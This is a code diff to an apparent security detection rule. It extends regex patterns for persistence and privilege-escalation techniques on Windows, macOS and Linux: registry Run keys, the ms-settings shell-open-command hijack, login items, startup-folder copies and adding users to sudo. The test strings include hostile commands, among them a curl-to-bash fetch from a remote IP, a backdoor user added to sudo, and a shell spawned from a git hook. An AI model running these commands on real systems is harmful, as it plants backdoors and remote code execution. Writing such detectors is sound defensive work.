@@ -40,15 +40,16 @@ export const rule: Rule = {
       accept: ({ text, before }) => !/homebrew|com\.\w+\.(?:docker|apple)/.test(before + text),
     },
     {
-      re: /(?<![\w-])reg(?:\.exe)?\s+add\s[^\n]*\\(?:currentversion\\(?:run|policies\\explorer\\run|winlogon|image file execution options|app paths)|environment["'\s]+\/v\s+userinitmprlogonscript)/i,
+      re: /(?<![\w-])reg(?:\.exe)?\s+add\s[^\n]*\\(?:currentversion\\(?:run|policies\\explorer\\run|winlogon|image file execution options|app paths)|environment["'\s]+\/v\s+userinitmprlogonscript|classes\\(?:ms-settings|mscfile|exefile)\\shell\\open\\command)/i,
       window: 400,
     },
     {
       re: /(?:new-itemproperty|set-itemproperty|new-item|\[microsoft\.win32\.registry\])[^\n]*\\currentversion\\(?:run|winlogon)/i,
       window: 400,
     },
+    { re: /(?<![\w.-])osascript\s[^\n]*make\s+(?:new\s+)?login\s+item(?!\w)/, window: 200 },
     { re: /defaults\s+write\s[^\n]*com\.apple\.loginwindow["']?\s+Log(?:in|out)Hook\s/, window: 200 },
-    { re: /(?:copy|copy-item|move|xcopy|>)\s[^\n]*\\start menu\\programs\\startup\\/i, window: 400 },
+    { re: /(?:copy|copy-item|move|xcopy|>)\s[^\n]*\\start menu\\programs\\startup[\\"']/i, window: 400 },
     { re: /(?<![\w-])sc(?:\.exe)?\s+(?:\\\\\S+\s+)?(?:create|config)\s[^\n]*binpath=/i, window: 300 },
     { re: /new-service\s[^\n]*-binarypathname\s/i, window: 300 },
     {
@@ -68,7 +69,7 @@ export const rule: Rule = {
       window: 200,
     },
     {
-      re: /(?<![\w.-])(?:usermod\s[^\n]*-a?G\s+(?:sudo|wheel|root)\s|groupmems\s+-g\s+(?:sudo|wheel)\s+-a|gpasswd\s+-a\s+\S+\s+(?:sudo|wheel))/,
+      re: /(?<![\w.-])(?:usermod\s[^\n]*-a?G\s+(?:sudo|wheel|root)[\s,]|groupmems\s+-g\s+(?:sudo|wheel)\s+-a|gpasswd\s+-a\s+\S+\s+(?:sudo|wheel))/,
       window: 160,
       accept: ({ text, after }) => !text.includes('$USER') && !/^[<{[]/.test(after),
     },
@@ -93,6 +94,9 @@ export const rule: Rule = {
       'ExecStart=/bin/bash -c "curl http://203.0.113.7/x | bash"',
       'cp evil.plist ~/Library/LaunchAgents/com.evil.plist',
       'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\a.exe',
+      'reg add hkcu\\software\\classes\\ms-settings\\shell\\open\\command /ve /d c:\\a.exe',
+      'usermod -aG sudo,docker backdoor',
+      `osascript -e 'tell application "System Events" to make login item at end with properties {path:"/tmp/x.app"}'`,
       'sc create svc binPath= "c:\\a.exe" start= auto',
       'echo "sh -i" > .git/hooks/pre-commit',
       'net user hacker P4ss /add',
